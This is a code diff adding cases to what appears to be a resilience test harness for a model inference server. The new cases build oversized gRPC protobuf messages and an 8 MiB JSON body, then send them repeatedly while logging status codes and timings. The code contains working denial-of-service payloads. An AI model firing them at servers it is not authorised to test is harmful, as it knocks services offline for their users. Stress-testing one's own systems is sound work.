@@ -653,6 +653,60 @@ const inferMessage = (shape: number[], bytes: Buffer): Buffer =>
 
 const SHAPE_OVERFLOW = [4294967296, 4294967296];
 
+const MODEL_NAME_FIELD = Buffer.from([0x0a, 13, ...Buffer.from('identity_fp32')]);
+
+/** A ModelInfer message for identity_fp32 that repeats `field` (a protobuf tag and its body) to `size` bytes. */
+function repeatedFieldMessage(field: Buffer, size: number): Buffer {
+  const head = MODEL_NAME_FIELD;
+  return Buffer.concat([head, Buffer.alloc(Math.floor((size - head.length) / field.length) * field.length, field)]);
+}
+
+/** A packed varint field: tag, the length as a varint, then the bytes. */
+function packed(tag: number, bytes: Buffer): Buffer {
+  const length: number[] = [];
+  for (let n = bytes.length; ; n >>>= 7) {
+    length.push(n >= 0x80 ? (n & 0x7f) | 0x80 : n);
+    if (n < 0x80) break;
+  }
+  return Buffer.concat([Buffer.from([tag, ...length]), bytes]);
+}
+
+/** The cases that send one gRPC message of `size` bytes, over and over, one call at a time. */
+function grpcMessageCase(name: string, what: string, message: () => Buffer): Case {
+  return {
+    name,
+    what,
+    async run({ grpc }) {
+      const body = grpcMessage(message());
+      const { counts, times } = await repeatFor(ATTACK_MS, async () => {
+        const a = await grpcCall(grpc, MODEL_INFER, body, 60_000);
+        return `grpc-status ${a.status} "${a.message.slice(0, 90)}"`;
+      });
+      return { saw: `${counted(counts)}; ${times.length} sent, each ${msRange(times)}`, details: { answers: Object.fromEntries(counts), times } };
+    },
+  };
+}
+
+/** A JSON inference body of `size` bytes whose input declares shape [1] and carries `data` of zeros. */
+function jsonDataCase(size: number): Case {
+  return {
+    name: `json-data-${size / MiB}MiB`,
+    what: `JSON inference of ${size / MiB} MiB: shape [1], "data":[0,0,…]`,
+    async run({ http }) {
+      const prefix = '{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1],"data":[';
+      const suffix = ']}]}';
+      const count = Math.floor((size - prefix.length - suffix.length + 1) / 2);
+      const body = Buffer.from(`${prefix}${'0,'.repeat(count - 1)}0${suffix}`);
+      const request = Buffer.concat([
+        Buffer.from(`POST /v2/models/identity_fp32/infer HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`),
+        body,
+      ]);
+      const { counts, times } = await repeatFor(ATTACK_MS, async () => shortAnswer(await httpExchange(http, request, 60_000)));
+      return { saw: `${counted(counts)}; ${times.length} sent, each ${msRange(times)}`, details: { answers: Object.fromEntries(counts), times } };
+    },
+  };
+}
+
 const CASES: Case[] = [
   {
     name: 'hpack-bomb',
@@ -822,6 +876,36 @@ const CASES: Case[] = [
       return { saw: `HTTP ${overHttp}; gRPC ${overGrpc}`, details: { http: overHttp, grpc: overGrpc } };
     },
   },
+  grpcMessageCase(
+    'grpc-empty-raw-contents',
+    'gRPC ModelInfer of 16 MiB: 8 M empty raw_input_contents (2 bytes each)',
+    () => repeatedFieldMessage(Buffer.from([0x3a, 0x00]), 16 * MiB),
+  ),
+  grpcMessageCase(
+    'grpc-empty-inputs',
+    'gRPC ModelInfer of 16 MiB: 8 M empty inputs (2 bytes each)',
+    () => repeatedFieldMessage(Buffer.from([0x2a, 0x00]), 16 * MiB),
+  ),
+  grpcMessageCase('grpc-shape-dims', 'gRPC ModelInfer of 16 MiB: one input whose packed shape has 16 M dims of 1', () =>
+    Buffer.concat([
+      MODEL_NAME_FIELD,
+      (() => {
+        const input = Buffer.concat([Buffer.from([0x0a, 6, ...Buffer.from('INPUT0'), 0x12, 4, ...Buffer.from('FP32')]), packed(0x1a, Buffer.alloc(16 * MiB, 1))]);
+        return packed(0x2a, input);
+      })(),
+    ]),
+  ),
+  grpcMessageCase('grpc-bool-contents', 'gRPC ModelInfer of 16 MiB: one BOOL input of shape [1] with 16 M packed bool_contents', () =>
+    Buffer.concat([
+      MODEL_NAME_FIELD,
+      (() => {
+        const contents = packed(0x0a, Buffer.alloc(16 * MiB, 1));
+        const input = Buffer.concat([Buffer.from([0x0a, 6, ...Buffer.from('INPUT0'), 0x12, 4, ...Buffer.from('BOOL'), 0x1a, 1, 1]), packed(0x2a, contents)]);
+        return packed(0x2a, input);
+      })(),
+    ]),
+  ),
+  jsonDataCase(8 * MiB),
 ];
 
 // ---------------------------------------------------------------------------
